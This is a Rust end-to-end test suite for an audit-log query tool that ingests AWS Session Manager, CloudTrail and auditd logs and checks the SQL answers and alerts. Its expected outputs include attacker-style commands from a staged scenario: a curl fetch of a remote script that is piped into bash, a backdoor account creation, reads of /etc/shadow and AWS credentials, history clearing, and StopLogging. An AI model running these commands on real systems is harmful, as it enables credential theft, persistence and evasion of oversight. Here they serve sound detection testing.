//! End to end: ingest `sample-logs/` twice into a temporary lake and ask the scenario's questions
//! through SQL. The expected answers are the facts in `sample-logs/README.md`.

use auditq_ingest::{IngestSummary, Lake, Limits, Pipeline, PipelineBuilder, ingest_paths};
use auditq_model::Table;
use auditq_query::{OutputFormat, run_sql, write_batches};
use auditq_tests::repo_root;

async fn csv(lake: &Lake, sql: &str) -> String {
    let ctx = auditq_query::context(lake)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let plan = auditq_query::plan_sql(&ctx, sql)
        .await
        .unwrap_or_else(|e| panic!("{sql}: {e}"));
    let schema = std::sync::Arc::new(plan.schema().as_arrow().clone());
    let batches = run_sql(&ctx, sql)
        .await
        .unwrap_or_else(|e| panic!("{sql}: {e}"));
    let mut out = Vec::new();
    write_batches(&batches, schema, OutputFormat::Csv, &mut out).unwrap_or_else(|e| panic!("{e}"));
    String::from_utf8(out).unwrap_or_else(|e| panic!("{e}"))
}

async fn pipeline(lake: &Lake) -> Pipeline {
    PipelineBuilder::new(lake.clone())
        .build()
        .await
        .unwrap_or_else(|e| panic!("{e}"))
}

async fn ingest(lake: &Lake) -> IngestSummary {
    ingest_paths(
        &pipeline(lake).await,
        &[repo_root().join("sample-logs")],
        &Limits::default(),
        &|_| {},
    )
    .await
    .unwrap_or_else(|e| panic!("{e}"))
}

/// A fresh lake with the parts of `sample-logs/` ingested one after another, with the default
/// rules.
async fn ingest_in_order(parts: &[&str]) -> (tempfile::TempDir, Lake) {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let engine = std::sync::Arc::new(
        auditq_rules::compile_source("default").unwrap_or_else(|e| panic!("{e}")),
    );
    let lake = Lake::new(dir.path().join("lake").display().to_string());
    let pipeline = PipelineBuilder::new(lake.clone())
        .rules(engine, Vec::new())
        .build()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let samples = repo_root().join("sample-logs");
    for part in parts {
        ingest_paths(
            &pipeline,
            &[samples.join(part)],
            &Limits::default(),
            &|_| {},
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    }
    (dir, lake)
}

#[tokio::test]
async fn sample_scenario_answers_who_when_where_what() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let lake = Lake::new(dir.path().join("lake").display().to_string());

    let first = ingest(&lake).await;
    assert_eq!(first.objects, 43, "{first:?}");
    assert_eq!(
        first.skipped, 2,
        "generate.py and README.md are not log files"
    );
    let added = |s: &IngestSummary, t: Table| s.tables.get(&t).map(|c| (c.read, c.added));
    assert_eq!(added(&first, Table::Commands), Some((68, 68)));
    assert_eq!(added(&first, Table::Sessions), Some((14, 14)));
    assert_eq!(added(&first, Table::HostEvents), Some((49, 49)));
    assert_eq!(
        added(&first, Table::Cloudtrail),
        Some((38, 37)),
        "one duplicate delivery"
    );
    assert_eq!(added(&first, Table::Rejects), Some((0, 0)));
    // Names CloudTrail set: 2 account aliases, 4 instances' Name and Environment, a rename,
    // and carol's two Identity Center principals (user and permission set each, read once from
    // each one's earliest call of the batch, not again from every call).
    assert_eq!(added(&first, Table::Names), Some((15, 15)));

    let second = ingest(&lake).await;
    assert_eq!(added(&second, Table::Commands), Some((68, 0)));
    assert_eq!(added(&second, Table::Cloudtrail), Some((38, 0)));
    assert_eq!(added(&second, Table::Sessions), Some((14, 0)));
    assert_eq!(added(&second, Table::Names), Some((15, 0)));
    assert_eq!(added(&second, Table::HostEvents), Some((49, 0)));
    assert_eq!(second.tables[&Table::Sessions].updated, 0);

    let counts = csv(
        &lake,
        "select c.n c, s.n s, t.n t, t.d d, r.n r from (select count(*) n from commands) c, \
         (select count(*) n from sessions) s, \
         (select count(*) n, count(distinct event_id) d from cloudtrail) t, \
         (select count(*) n from rejects) r",
    )
    .await;
    assert_eq!(counts, "c,s,t,d,r\n68,14,37,37,0\n");

    // Every sudo command: who, when, where, what (the README's first question).
    let sudo = csv(&lake, auditq_tests::SUDO_COMMANDS_SQL).await;
    assert_eq!(
        sudo,
        include_str!("../../fixtures/sample_sudo_commands.csv")
    );

    // The source IP and document of every session, and what recorded it.
    let sessions = csv(
        &lake,
        "select session_id, user, source_ip, target, document, kind, logged, commands, started_at, ended_at \
         from sessions order by started_at",
    )
    .await;
    assert_eq!(
        sessions,
        "session_id,user,source_ip,target,document,kind,logged,commands,started_at,ended_at\n\
alice-0a7f3c9e1b2d4f601,alice,203.0.113.10,i-0a1b2c3d4e5f60711,SSM-SessionManagerRunShell,shell,stream,8,2026-10-05T09:12:03Z,2026-10-05T09:18:40Z\n\
bob-0b8e4d0f2c3e5a712,bob,198.51.100.23,i-0b2c3d4e5f6071822,SSM-SessionManagerRunShell,shell,stream,4,2026-10-05T10:30:15Z,2026-10-05T10:41:02Z\n\
carol@example.com-wzleysigzmbd6fmkefjqvt5w4u,carol@example.com,192.0.2.77,i-0a1b2c3d4e5f60711,SSM-SessionManagerRunShell,shell,stream,4,2026-10-05T14:05:44Z,2026-10-05T14:12:10Z\n\
dave-03d4e5f6a7b8c9da2,dave,198.51.100.99,i-0c3d4e5f607182933,SSM-SessionManagerRunShell,shell,stream,3,2026-10-05T16:40:00Z,2026-10-05T16:44:30Z\n\
dave-0d9a5b1e3f4a6c823,dave,198.51.100.99,i-0c3d4e5f607182933,SSM-SessionManagerRunShell,shell,stream,6,2026-10-06T08:02:11Z,2026-10-06T08:09:57Z\n\
bob-02c3d4e5f6a7b8c91,bob,198.51.100.23,i-0a1b2c3d4e5f60711,SSM-SessionManagerRunShell,shell,stream,3,2026-10-06T09:30:00Z,2026-10-06T09:34:10Z\n\
alice-0e1f2a3b4c5d6e7f8,alice,203.0.113.10,i-0b2c3d4e5f6071822,SSM-SessionManagerRunShell,shell,transcript,5,2026-10-06T11:00:05Z,2026-10-06T11:07:31Z\n\
b58c980c-87be-4119-ab51-8a14cec6e65a-i-0a1b2c3d4e5f60711,bob,198.51.100.23,i-0a1b2c3d4e5f60711,AWS-RunShellScript,run_command,host_only,4,2026-10-06T12:30:00Z,\n\
b58c980c-87be-4119-ab51-8a14cec6e65a-i-0b2c3d4e5f6071822,bob,198.51.100.23,i-0b2c3d4e5f6071822,AWS-RunShellScript,run_command,none,0,2026-10-06T12:30:00Z,\n\
eic-35363804-8390-4fe1-aed9-8a0107c71f8a,alice,203.0.113.10,i-0d4e5f60718293a44,SendSSHPublicKey,instance_connect,host_only,1,2026-10-06T13:10:00Z,2026-10-06T13:14:40Z\n\
carol@example.com-q3ksx7n2pd5m4hbf6gtyr8wzla,carol@example.com,192.0.2.77,i-0c3d4e5f607182933,SSM-SessionManagerRunShell,shell,transcript,4,2026-10-06T15:20:30Z,2026-10-06T15:26:02Z\n\
bob-0f1a2b3c4d5e6f701,bob,198.51.100.23,i-0d4e5f60718293a44,AWS-StartSSHSession,ssh,host_only,7,2026-10-06T16:00:12Z,2026-10-06T16:45:50Z\n\
dave-01b2c3d4e5f6a7b80,dave,198.51.100.99,i-0c3d4e5f607182933,AWS-StartPortForwardingSession,port_forward,none,0,2026-10-06T17:10:00Z,2026-10-06T17:55:30Z\n\
ssh-arc-web-1-0945a40dfd8d,carol@example.com,192.0.2.77,arc-web-1,sshd,host_ssh,host_only,1,2026-10-06T19:20:02.036114Z,2026-10-06T19:29:40.118305Z\n"
    );

    // Transcripts resolve to what was run: the typo fixed with backspaces, history recall, nothing
    // from inside vim, and the line abandoned with Ctrl-C is not a command.
    let alice = csv(
        &lake,
        "select cmd where session_id = 'alice-0e1f2a3b4c5d6e7f8' order by seq",
    )
    .await;
    assert_eq!(
        alice,
        "cmd\nsystemctl status ssh\nsudo vim /etc/ssh/sshd_config\nsudo systemctl restart ssh\n\
         systemctl status ssh\nexit\n"
    );
    let abandoned = csv(
        &lake,
        "select count(*) n where cmd like '%build-cache%' or cmd like '%PermitRoot%'",
    )
    .await;
    assert_eq!(abandoned, "n\n0\n");
    // The stream command split across two uploads is one command, timed when Enter was pressed.
    let split = csv(&lake, "select time, cmd where cmd like 'tail -n 50%'").await;
    assert_eq!(
        split,
        "time,cmd\n2026-10-05T10:31:06Z,tail -n 50 /var/log/postgresql/postgresql-14-main.log\n"
    );
    // Root after `sudo su -`: the prompt says so (what auditd saw is asserted on its own, in
    // auditd_execs_belong_to_the_session_that_started_them).
    let root = csv(
        &lake,
        "select user, run_as, cmd where run_as = 'root' and source <> 'auditd' order by time, seq",
    )
    .await;
    assert_eq!(
        root,
        "user,run_as,cmd\nalice,root,tail -n 20 /var/log/secure\n\
         alice,root,/usr/local/sbin/rotate-logs.sh\nalice,root,stty -echo\nalice,root,exit\n\
         dave,root,cat /root/.aws/credentials\ndave,root,history -c\ndave,root,exit\n\
         alice,root,/usr/bin/systemctl status sshd\n\
         bob,root,/usr/sbin/visudo\nbob,root,/bin/cat /etc/shadow\n\
         carol@example.com,root,/usr/bin/journalctl -u nginx -n 50\n"
    );

    // CloudTrail facts: console logins and MFA, the duplicate stored once, the trail stopped.
    let logins = csv(
        &lake,
        "select time, user, source_ip, mfa, error_message from cloudtrail \
         where event_name = 'ConsoleLogin' order by time",
    )
    .await;
    assert_eq!(
        logins,
        "time,user,source_ip,mfa,error_message\n\
2026-10-05T08:55:10Z,alice,203.0.113.10,true,\n\
2026-10-06T03:14:15Z,alice,45.155.205.233,false,Failed authentication\n\
2026-10-06T15:58:02Z,bob,198.51.100.23,false,\n"
    );
    let iam = csv(
        &lake,
        "select event_name, user, account from cloudtrail where event_source = 'iam.amazonaws.com' \
         or event_name = 'StopLogging' order by time",
    )
    .await;
    assert_eq!(
        iam,
        "event_name,user,account\nCreateAccountAlias,carol@example.com,111122223333\n\
         CreateAccountAlias,dave,444455556666\nCreateUser,bob,111122223333\nAttachUserPolicy,bob,111122223333\n\
         CreateAccessKey,bob,111122223333\nStopLogging,dave,444455556666\n"
    );
    let carol = csv(
        &lake,
        "select distinct principal_arn from cloudtrail where user = 'carol@example.com' order by 1",
    )
    .await;
    assert_eq!(
        carol,
        "principal_arn\n\
arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_AdministratorAccess_5e2a1c0d9b8f7a61/carol@example.com\n\
arn:aws:sts::444455556666:assumed-role/AWSReservedSSO_ReadOnlyAccess_1f2e3d4c5b6a7980/carol@example.com\n"
    );
    // Partitioned by date: two days, the tables laid out as Delta partitions.
    let days = csv(
        &lake,
        "select date, count(*) n from commands group by date order by date",
    )
    .await;
    assert_eq!(days, "date,n\n2026-10-05,37\n2026-10-06,31\n");
    assert!(dir.path().join("lake/commands/date=2026-10-05").is_dir());
    assert!(dir.path().join("lake/commands/_delta_log").is_dir());
}

#[tokio::test]
async fn order_of_arrival_does_not_change_the_answer() {
    // Transcripts and streams first, CloudTrail afterwards: sessions still get who/where.
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let lake = Lake::new(dir.path().join("lake").display().to_string());
    let samples = repo_root().join("sample-logs");
    let pipeline = pipeline(&lake).await;
    for part in ["s3/ssm-session-logs", "cloudwatch", "s3/cloudtrail"] {
        ingest_paths(
            &pipeline,
            &[samples.join(part)],
            &Limits::default(),
            &|_| {},
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    }
    let sessions = csv(
        &lake,
        "select session_id, user, source_ip, target, logged, started_at from sessions \
         where session_id like 'alice%' order by started_at",
    )
    .await;
    assert_eq!(
        sessions,
        "session_id,user,source_ip,target,logged,started_at\n\
alice-0a7f3c9e1b2d4f601,alice,203.0.113.10,i-0a1b2c3d4e5f60711,stream,2026-10-05T09:12:03Z\n\
alice-0e1f2a3b4c5d6e7f8,alice,203.0.113.10,i-0b2c3d4e5f6071822,transcript,2026-10-06T11:00:05Z\n"
    );
    let counts = csv(&lake, "select s.n s, c.n c from (select count(*) n from sessions) s, (select count(*) n from commands) c").await;
    // Bob's seven host commands (sudo and auditd on the bastion), alice's sudo through Instance
    // Connect, and the 22 execs auditd saw on prod-web-1 (17 in alice's session, 4 of bob's Run
    // Command, logrotate's no one's) are in cloudwatch/host-logs; carol's Entra ID login on the
    // Arc machine (hosts/) is not read here.
    assert_eq!(counts, "s,c\n13,67\n");
    // Commands stored before CloudTrail arrived were given their session's who/where.
    let missing = csv(
        &lake,
        "select count(*) n from commands where session_id is not null and (user is null \
         or source_ip is null or target is null or account is null)",
    )
    .await;
    assert_eq!(missing, "n\n0\n");
    let transcript = csv(&lake, "select distinct user, source_ip, target from commands where source = 'transcript' order by 1, 2").await;
    assert_eq!(
        transcript,
        "user,source_ip,target\nalice,203.0.113.10,i-0b2c3d4e5f6071822\ncarol@example.com,192.0.2.77,i-0c3d4e5f607182933\n"
    );
}

/// The sessions Session Manager cannot see (`sample-logs/README.md`, "host logs"): bob's SSH
/// session through Session Manager is known from the bastion's sshd and sudo, carol's Entra ID
/// login on an Azure Arc machine from its auth.log alone, and dave's port forward left nothing,
/// which the default rules alert on. The same answer whether the host logs arrive before or
/// after CloudTrail.
#[tokio::test]
async fn host_logs_complete_the_sessions_session_manager_cannot_see() {
    let orders: [&[&str]; 2] = [
        &["."],
        &[
            "cloudwatch/host-logs",
            "hosts",
            "s3/ssm-session-logs",
            "cloudwatch/aws-ssm-sessions",
            "s3/cloudtrail",
        ],
    ];
    let mut answers = Vec::new();
    for parts in orders {
        let (_dir, lake) = ingest_in_order(parts).await;
        let sessions = csv(
            &lake,
            "select session_id, user, kind, logged, run_as, target from sessions \
             where kind <> 'shell' order by started_at",
        )
        .await;
        let lines: Vec<&str> = sessions.lines().collect();
        assert_eq!(lines.len(), 7, "{sessions}");
        // bob's Run Command: auditd on prod-web-1 saw what it ran; prod-db-1 ships no host logs.
        assert_eq!(
            &lines[1..3],
            [
                "b58c980c-87be-4119-ab51-8a14cec6e65a-i-0a1b2c3d4e5f60711,bob,run_command,host_only,,i-0a1b2c3d4e5f60711",
                "b58c980c-87be-4119-ab51-8a14cec6e65a-i-0b2c3d4e5f6071822,bob,run_command,none,,i-0b2c3d4e5f6071822",
            ]
        );
        // alice through EC2 Instance Connect: the key pushed for ec2-user, then the login.
        assert_eq!(
            lines[3],
            "eic-35363804-8390-4fe1-aed9-8a0107c71f8a,alice,instance_connect,host_only,ec2-user,i-0d4e5f60718293a44"
        );
        assert_eq!(
            lines[4],
            "bob-0f1a2b3c4d5e6f701,bob,ssh,host_only,ec2-user,i-0d4e5f60718293a44"
        );
        assert_eq!(
            lines[5],
            "dave-01b2c3d4e5f6a7b80,dave,port_forward,none,,i-0c3d4e5f607182933"
        );
        assert!(
            lines[6].starts_with("ssh-arc-web-1-")
                && lines[6]
                    .ends_with(",carol@example.com,host_ssh,host_only,carol@example.com,arc-web-1"),
            "{sessions}"
        );
        let bob = csv(
            &lake,
            "select time, user, run_as, source, cmd from commands \
             where session_id = 'bob-0f1a2b3c4d5e6f701' order by time",
        )
        .await;
        assert_eq!(
            bob,
            "time,user,run_as,source,cmd\n\
             2026-10-06T16:00:14.790Z,bob,ec2-user,auditd,-bash\n\
             2026-10-06T16:02:40Z,bob,root,sudo,/usr/sbin/visudo\n\
             2026-10-06T16:02:40.811Z,bob,ec2-user,auditd,sudo visudo\n\
             2026-10-06T16:02:41.311Z,bob,root,auditd,/usr/sbin/visudo\n\
             2026-10-06T16:05:01.830Z,bob,ec2-user,auditd,sudo cat /etc/shadow\n\
             2026-10-06T16:05:01.831Z,bob,root,auditd,cat /etc/shadow\n\
             2026-10-06T16:05:02Z,bob,root,sudo,/bin/cat /etc/shadow\n"
        );
        // What alice ran through Instance Connect on the same machine, as the same OS user,
        // hours before bob: hers, not his.
        let alice = csv(
            &lake,
            "select session_id, user, cmd from commands \
             where target = 'i-0d4e5f60718293a44' and time < '2026-10-06T14:00:00Z'",
        )
        .await;
        assert_eq!(
            alice,
            "session_id,user,cmd\n\
             eic-35363804-8390-4fe1-aed9-8a0107c71f8a,alice,/usr/bin/systemctl status sshd\n"
        );
        let alerts = csv(
            &lake,
            "select rule_id, user, target from alerts \
             where rule_id like 'host.%' or rule_id like 'ssm.%' order by rule_id, user, target",
        )
        .await;
        assert_eq!(
            alerts,
            "rule_id,user,target\n\
             host.exec_not_in_recording,alice,i-0a1b2c3d4e5f60711\n\
             host.exec_not_in_recording,alice,i-0a1b2c3d4e5f60711\n\
             host.exec_not_in_recording,alice,i-0a1b2c3d4e5f60711\n\
             host.ssh_failed_login_burst,postgres,i-0d4e5f60718293a44\n\
             host.sudo_outside_allowlist,carol@example.com,\n\
             host.sudoers_edit_auditd,ec2-user,i-0d4e5f60718293a44\n\
             ssm.production_access_without_reason,alice,i-0a1b2c3d4e5f60711\n\
             ssm.production_access_without_reason,alice,i-0b2c3d4e5f6071822\n\
             ssm.production_access_without_reason,alice,i-0d4e5f60718293a44\n\
             ssm.production_access_without_reason,bob,i-0a1b2c3d4e5f60711\n\
             ssm.production_access_without_reason,bob,i-0b2c3d4e5f6071822\n\
             ssm.production_access_without_reason,bob,i-0d4e5f60718293a44\n\
             ssm.production_access_without_reason,carol@example.com,i-0a1b2c3d4e5f60711\n\
             ssm.session_unlogged,bob,i-0b2c3d4e5f6071822\n\
             ssm.session_unlogged,dave,i-0c3d4e5f607182933\n"
        );
        answers.push((sessions, bob, alerts));
    }
    assert_eq!(answers[0], answers[1]);
}

/// What alice ran on prod-web-1, from auditd (`sample-logs/README.md`): every exec below her
/// session's `ssm-session-worker` is hers (through `sudo su -` and a script), the daemon's exec
/// at the same time is no one's, each knows its parent, and what her stream does not show (typed
/// with echo off, then a payload piped into bash) is marked and alerted on, whether the stream
/// arrives before or after the audit log.
#[tokio::test]
async fn auditd_execs_belong_to_the_session_that_started_them() {
    let orders: [&[&str]; 2] = [
        &[
            "s3/cloudtrail",
            "cloudwatch/aws-ssm-sessions",
            "cloudwatch/host-logs",
        ],
        &[
            "cloudwatch/host-logs",
            "s3/cloudtrail",
            "cloudwatch/aws-ssm-sessions",
        ],
    ];
    let mut answers = Vec::new();
    for parts in orders {
        let (_dir, lake) = ingest_in_order(parts).await;
        let execs = csv(
            &lake,
            "select session_id, user, run_as, cmd, parent_cmd, seen_in_transcript from commands \
             where source = 'auditd' and target = 'i-0a1b2c3d4e5f60711' order by time",
        )
        .await;
        let lines: Vec<&str> = execs.lines().skip(1).collect();
        assert_eq!(lines.len(), 22, "{execs}");
        let alice = "alice-0a7f3c9e1b2d4f601,alice,";
        let theirs: Vec<&str> = lines
            .iter()
            .copied()
            .filter(|l| l.starts_with(alice))
            .collect();
        assert_eq!(theirs.len(), 17, "{execs}");
        let unowned: Vec<&str> = lines
            .iter()
            .copied()
            .filter(|l| l.starts_with(','))
            .collect();
        assert_eq!(
            unowned,
            [",,root,/usr/sbin/logrotate /etc/logrotate.conf,,"],
            "{execs}"
        );
        // bob's Run Command: the agent's document worker roots it, and what its script ran is
        // the invocation's (no recording: shown or not is unknown).
        let script = "sh -c /var/lib/amazon/ssm/i-0a1b2c3d4e5f60711/document/orchestration/\
                      b58c980c-87be-4119-ab51-8a14cec6e65a/awsrunShellScript/0.awsrunShellScript/_script.sh";
        let run_command = "b58c980c-87be-4119-ab51-8a14cec6e65a-i-0a1b2c3d4e5f60711,bob,root,";
        let invocation: Vec<&str> = lines
            .iter()
            .copied()
            .filter(|l| l.starts_with(run_command))
            .collect();
        assert_eq!(
            invocation,
            [
                format!(
                    "{run_command}/usr/bin/ssm-document-worker b58c980c-87be-4119-ab51-8a14cec6e65a,,"
                ),
                format!(
                    "{run_command}{script},/usr/bin/ssm-document-worker b58c980c-87be-4119-ab51-8a14cec6e65a,"
                ),
                format!("{run_command}/usr/bin/python3 /usr/bin/dnf -y upgrade openssl,{script},"),
                format!("{run_command}rpm -q openssl,{script},"),
            ],
            "{execs}"
        );
        for expected in [
            // Typed and shown: seen, with its parent.
            "alice-0a7f3c9e1b2d4f601,alice,root,tail -n 20 /var/log/secure,-bash,true",
            // What sudo ran, as root, below sudo.
            "alice-0a7f3c9e1b2d4f601,alice,root,systemctl restart nginx,sudo systemctl restart nginx,true",
            // What a script ran: not shown, its parent is the script.
            "alice-0a7f3c9e1b2d4f601,alice,root,gzip -9 /var/log/nginx/access.log-20260928,/bin/bash /usr/local/sbin/rotate-logs.sh,false",
            // Typed with echo off, and what the fetched script ran.
            "alice-0a7f3c9e1b2d4f601,alice,root,curl -s http://198.51.100.250/i.sh,-bash,false",
            "alice-0a7f3c9e1b2d4f601,alice,root,useradd -m -c 'Support Account' support,bash,false",
        ] {
            assert!(lines.contains(&expected), "{expected} not in\n{execs}");
        }
        let alerts = csv(
            &lake,
            "select c.cmd from alerts a join commands c on a.event_id = c.event_id \
             where a.rule_id = 'host.exec_not_in_recording' order by c.time",
        )
        .await;
        assert_eq!(
            alerts,
            "cmd\ncurl -s http://198.51.100.250/i.sh\nbash\nuseradd -m -c 'Support Account' support\n"
        );
        // With the stream read first, an exec it shows raised no second alert beside the typed
        // line's. (Read before its recording, an exec is alerted on as it comes: whether the
        // recording will show it is not known yet.)
        let root_shells = csv(
            &lake,
            "select count(*) n from alerts where rule_id = 'linux.sudo_root_shell' \
             and session_id = 'alice-0a7f3c9e1b2d4f601'",
        )
        .await;
        if parts[2] == "cloudwatch/host-logs" {
            assert_eq!(root_shells, "n\n1\n");
        }
        answers.push((execs, alerts));
    }
    assert_eq!(answers[0], answers[1]);
}

/// An auditd event whose records two reads split (a page or file boundary between its SYSCALL
/// and EXECVE records) is one event and one command, with its parent and session: the second
/// read joins the stored part, and reading either part again changes nothing.
#[tokio::test]
async fn an_auditd_event_split_across_two_reads_is_one_event() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let lake = Lake::new(dir.path().join("lake").display().to_string());
    let pipeline = pipeline(&lake).await;
    let stamp = "msg=audit(1791191524.102:20102)";
    let parts = [
        format!(
            "type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 ppid=3100 pid=3101 auid=4294967295 uid=0 tty=pts0 ses=4294967295 comm=\"useradd\" exe=\"/usr/sbin/useradd\" key=\"exec\"\n"
        ),
        format!(
            "type=EXECVE {stamp}: argc=3 a0=\"useradd\" a1=\"-m\" a2=\"support\"\ntype=CWD {stamp}: cwd=\"/root\"\ntype=EOE {stamp}:\n"
        ),
    ];
    let files: Vec<std::path::PathBuf> = parts
        .iter()
        .enumerate()
        .map(|(n, text)| {
            let path = dir.path().join(format!("audit.log.{n}"));
            std::fs::write(&path, text).unwrap_or_else(|e| panic!("{e}"));
            path
        })
        .collect();
    let read = |path: std::path::PathBuf| {
        let pipeline = &pipeline;
        async move {
            ingest_paths(pipeline, &[path], &Limits::default(), &|_| {})
                .await
                .unwrap_or_else(|e| panic!("{e}"))
        }
    };
    read(files[0].clone()).await;
    let half = csv(&lake, "select count(*) n from commands").await;
    assert_eq!(half, "n\n0\n", "the SYSCALL record alone names no command");
    let second = read(files[1].clone()).await;
    assert_eq!(second.tables[&Table::HostEvents].updated, 1, "{second:?}");
    let answer = || async {
        (
            csv(
                &lake,
                "select action, cmd, ppid, exe, cwd, length(raw) - length(replace(raw, 'type=', '')) n \
                 from host_events",
            )
            .await,
            csv(&lake, "select cmd, cwd, source from commands").await,
        )
    };
    let joined = answer().await;
    assert_eq!(
        joined,
        (
            "action,cmd,ppid,exe,cwd,n\nexec,useradd -m support,3100,/usr/sbin/useradd,/root,20\n"
                .to_string(),
            "cmd,cwd,source\nuseradd -m support,/root,auditd\n".to_string()
        )
    );
    // Both parts read again (a retried batch, a re-read file): nothing changes.
    let copy = dir.path().join("audit.log.both");
    std::fs::write(&copy, parts.concat()).unwrap_or_else(|e| panic!("{e}"));
    for again in [read(files[1].clone()).await, read(copy).await] {
        let host = &again.tables[&Table::HostEvents];
        assert_eq!((host.added, host.updated), (0, 0), "{again:?}");
    }
    assert_eq!(answer().await, joined);
}

/// Run Command and EC2 Instance Connect are accesses without a Session Manager session: a
/// `SendCommand` to two instances is two `run_command` sessions (unrecorded, so alerted on like
/// any), and the sshd login that uses a key `SendSSHPublicKey` pushed a minute before joins that
/// `instance_connect` session, whichever arrives first.
#[tokio::test]
async fn run_command_and_instance_connect_are_sessions() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let trail = dir.path().join("trail.json");
    std::fs::write(
        &trail,
        r#"{"Records":[
{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/bob","accountId":"111122223333","userName":"bob"},"eventTime":"2026-10-06T13:05:00Z","eventSource":"ssm.amazonaws.com","eventName":"SendCommand","awsRegion":"eu-west-1","sourceIPAddress":"198.51.100.23","requestParameters":{"instanceIds":["i-0a1b2c3d4e5f60711","i-0b2c3d4e5f6071822"],"documentName":"AWS-RunShellScript","parameters":"HIDDEN_DUE_TO_SECURITY_REASONS"},"responseElements":{"command":{"commandId":"7f3e2a10-5b6c-4d8e-9f01-23456789abcd","instanceIds":["i-0a1b2c3d4e5f60711","i-0b2c3d4e5f6071822"]}},"eventID":"e1","eventType":"AwsApiCall","recipientAccountId":"111122223333"},
{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/alice","accountId":"111122223333","userName":"alice"},"eventTime":"2026-10-06T14:00:00Z","eventSource":"ec2-instance-connect.amazonaws.com","eventName":"SendSSHPublicKey","awsRegion":"eu-west-1","sourceIPAddress":"203.0.113.10","requestParameters":{"instanceId":"i-0d4e5f60718293a44","instanceOSUser":"ec2-user","sSHPublicKey":"ssh-ed25519 AAAAC3Nz"},"responseElements":{"requestId":"r1","success":true},"eventID":"e2","eventType":"AwsApiCall","recipientAccountId":"111122223333"}
]}"#,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let secure = dir.path().join("secure.json");
    std::fs::write(
        &secure,
        r#"{"events":[{"logStreamName":"i-0d4e5f60718293a44","timestamp":1791295221000,"message":"Oct  6 14:00:20 ip-10-0-0-44 sshd[3001]: Accepted publickey for ec2-user from 203.0.113.10 port 50000 ssh2: ED25519 SHA256:ZWljLWtleQ","ingestionTime":1791295221100,"eventId":"1"}],"searchedLogStreams":[]}"#,
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let mut answers = Vec::new();
    for order in [[&trail, &secure], [&secure, &trail]] {
        let lake_dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let lake = Lake::new(lake_dir.path().join("lake").display().to_string());
        let pipeline = pipeline(&lake).await;
        for path in order {
            ingest_paths(
                &pipeline,
                std::slice::from_ref(path),
                &Limits::default(),
                &|_| {},
            )
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        }
        let accesses = csv(
            &lake,
            "select session_id, user, kind, logged, run_as, target from sessions \
             where kind <> 'host_ssh' order by session_id",
        )
        .await;
        assert_eq!(
            accesses,
            "session_id,user,kind,logged,run_as,target\n\
             7f3e2a10-5b6c-4d8e-9f01-23456789abcd-i-0a1b2c3d4e5f60711,bob,run_command,none,,i-0a1b2c3d4e5f60711\n\
             7f3e2a10-5b6c-4d8e-9f01-23456789abcd-i-0b2c3d4e5f6071822,bob,run_command,none,,i-0b2c3d4e5f6071822\n\
             eic-e2,alice,instance_connect,host_only,ec2-user,i-0d4e5f60718293a44\n"
        );
        let login = csv(
            &lake,
            "select session_id from host_events where program = 'sshd' and action = 'login'",
        )
        .await;
        answers.push((accesses, login));
    }
    // CloudTrail first: the login joins the access and makes no session of its own.
    assert_eq!(answers[0].1, "session_id\neic-e2\n");
    assert_eq!(answers[0].0, answers[1].0);
}
